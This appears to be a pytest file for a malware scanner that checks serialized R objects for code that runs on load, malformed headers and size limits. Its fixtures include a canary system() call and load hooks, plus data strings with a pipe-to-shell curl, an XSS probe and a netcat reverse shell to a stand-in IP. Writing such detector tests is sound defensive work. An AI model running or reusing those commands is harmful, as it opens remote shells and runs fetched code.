"""R's saved objects: walked whole, in each spelling; what would run is told, and what lies."""

import gzip

import pytest

from harness import make_r as r
from harness.inspecting import inspect_bytes, inspect_tree, subject_of
from pratique.artifacts.readers import r_walk
from pratique.artifacts.readers.r_data import RDataReader
from pratique.core.errors import LimitExceededError, MalformedError
from pratique.core.finding import Severity

RUN = r.call("system", r.strings("touch canary"))
HONEST = {
    "model": r.rds(r.named(("coef", r.numbers(1, 2)), ("call", r.call("lm", r.symbol("y"))))),
    "workspace": r.rda(("a", r.strings("b")), ("f", r.closure(r.call("+", r.numbers(1))))),
    "text": r.ascii_rds("hello"),
    "environment": r.rds(r.environment(("x", r.promise(r.call("+", r.numbers(1)))))),
    "forced promise": r.rds(r.promise(r.symbol("x"), r.numbers(1))),
    "parse": r.rds(r.closure(r.call("eval", r.call("parse", r.strings("1"))))),
    "source as a word": r.rds(r.strings("system", "source")),
}
RUNS = {
    "promise": (r.rds(r.promise(RUN)), {"MAL101", "MAL102"}, Severity.CRITICAL),
    "variable": (r.rda(("x", r.promise(RUN))), {"MAL101", "MAL102"}, Severity.CRITICAL),
    "in a list": (r.rds(r.named(("a", r.promise(RUN)))), {"MAL101", "MAL102"}, Severity.CRITICAL),
    "function": (r.rds(r.closure(RUN)), {"MAL102"}, Severity.HIGH),
    "hook": (r.rda((".First", r.closure(r.numbers(1)))), {"MAL102"}, Severity.HIGH),
    "fetch": (r.rds(r.closure(r.call("source", r.strings("x")))), {"MAL102"}, Severity.MEDIUM),
    "by name": (
        r.rds(r.closure(r.call("do.call", r.strings("system")))),
        {"MAL102"},
        Severity.MEDIUM,
    ),
    "handed on": (
        r.rds(r.call("::", r.symbol("base"), r.symbol("system"))),
        {"MAL102"},
        Severity.MEDIUM,
    ),
    "decoded": (
        r.rds(r.call("eval", r.call("parse", r.call("rawToChar", r.numbers(1))))),
        {"MAL102"},
        Severity.MEDIUM,
    ),
}


@pytest.mark.parametrize("body", HONEST.values(), ids=HONEST)
def test_honest_objects_are_read_whole_and_left_in_peace(body: bytes) -> None:
    told = inspect_tree({"model.rds": gzip.compress(body, mtime=0)})
    assert told.full, told.not_full[:3]
    assert told.findings == []


@pytest.mark.parametrize(("body", "rules", "severity"), RUNS.values(), ids=RUNS)
def test_code_that_would_run_is_told(body: bytes, rules: set[str], severity: Severity) -> None:
    for one in (body, gzip.compress(body, mtime=0)):
        told = inspect_bytes(one)
        assert told.rules == rules
        assert max(f.severity for f in told.findings) == severity


@pytest.mark.parametrize(
    ("body", "says"),
    [
        (r.rds(r.whole(16, 2**31 - 1)), "beyond the end"),
        (r.rds(r.whole(14, 2**31 - 1)), "fewer are left"),
        (r.rds(r.whole(14, -1, 2**31 - 1, 0)), "a vector of"),
        (r.rds(r.whole(16, -5)), "a vector of -5"),
        (r.rds(r.whole(77)), "of kind 77"),
        (r.rds(r.whole(9, -3)), "a text of -3"),
        (r.rds(r.whole(255 | 5 << 8)), "object 5 is referred to"),
        (r.rds(r.whole(1, 14)), "no text"),
        (r.rds(r.strings("ab"))[:-1], "fewer are left"),
        (r.ascii_rds("hello")[:-8], "ends where more"),
        (r.ascii_rds("hello")[:-3], "has 3|has 4"),
    ],
)
def test_objects_that_lie_are_malformed(body: bytes, says: str) -> None:
    assert RDataReader().recognises(subject_of(body))
    with pytest.raises(MalformedError, match=says):
        list(RDataReader().read(subject_of(body)))


def test_objects_are_bounded(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(r_walk, "MAX_ITEMS", 5)
    with pytest.raises(LimitExceededError, match="more than 5 objects in one file"):
        list(RDataReader().read(subject_of(r.rds(r.strings(*"abcdefgh")))))
    monkeypatch.setattr(r_walk, "MAX_STACK", 1)
    with pytest.raises(LimitExceededError, match="inside one another"):
        list(RDataReader().read(subject_of(r.rds(r.call("a", r.call("b"))))))


def test_what_stands_behind_the_objects_is_unclaimed() -> None:
    assert "INT001" in inspect_bytes(r.rds(r.strings("a")) + b"\x01hidden").rules


def test_rows_of_data_are_no_commands() -> None:
    words = r.strings("<script>alert(1)</script>", "curl http://192.0.2.1/a | sh")
    assert inspect_bytes(r.rds(r.named(("tweets", words)))).findings == []


def test_what_a_call_is_given_is_looked_at() -> None:
    given = r.strings("nc 192.0.2.1 1 -e /bin/sh")
    told = inspect_bytes(r.rds(r.closure(r.call("own", given))))
    assert told.rules == {"MAL100"}
